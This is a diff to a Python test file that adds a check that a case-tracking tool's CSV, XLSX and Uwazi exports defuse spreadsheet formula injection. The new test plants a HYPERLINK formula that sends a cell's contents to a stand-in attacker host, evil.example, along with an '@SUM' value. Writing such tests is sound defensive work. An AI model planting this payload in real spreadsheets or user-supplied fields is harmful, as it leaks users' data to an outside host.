@@ -3,6 +3,7 @@ a record of every export, and clear problems for bad selections."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import io
 import json
@@ -219,6 +220,38 @@ class TestItucSurvey:
         assert leaks(body, CONSENTED) == []
         sheet = load_workbook(io.BytesIO(body))["Group I"]
         assert sheet.max_row == 6
+
+    def test_typed_text_never_becomes_a_spreadsheet_formula(
+        self, client: TestClient, coordinator: Account
+    ) -> None:
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+        case = create_case(
+            client, coordinator, title=formula, employer="@SUM(1+1)", categories=["A.LIB.ARREST"]
+        )
+        params = {"case_id": [case["id"]]}
+        csv_body = ok_bytes(
+            client.get(f"{API}/exports/ituc", params={**params, "format": "csv"}, headers=coordinator.headers)
+        )
+        [row] = list(csv.DictReader(io.StringIO(csv_body.decode("utf-8-sig"))))
+        assert row["description"].startswith("'=HYPERLINK(")
+        assert formula in row["description"]  # defused, not mangled
+        xlsx_body = ok_bytes(
+            client.get(
+                f"{API}/exports/ituc", params={**params, "format": "xlsx"}, headers=coordinator.headers
+            )
+        )
+        sheet = load_workbook(io.BytesIO(xlsx_body))["Group I"]
+        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
+        described = [cell for cell in cells if str(cell.value).startswith("=HYPERLINK")]
+        assert described and all(cell.data_type == "s" for cell in described)
+        uwazi = client.post(
+            f"{API}/exports/huridocs",
+            json={"case_ids": [case["id"]], "audience": "partner", "format": "uwazi_csv"},
+            headers=coordinator.headers,
+        )
+        [uwazi_row] = list(csv.reader(io.StringIO(ok_bytes(uwazi).decode("utf-8-sig"))))[1:]
+        assert uwazi_row[0] == "'" + formula
+        assert "'@SUM(1+1)" in uwazi_row
 
     def test_a_selection_over_the_limit_is_refused_with_advice(
         self, client: TestClient, coordinator: Account, arrests: dict, monkeypatch: pytest.MonkeyPatch
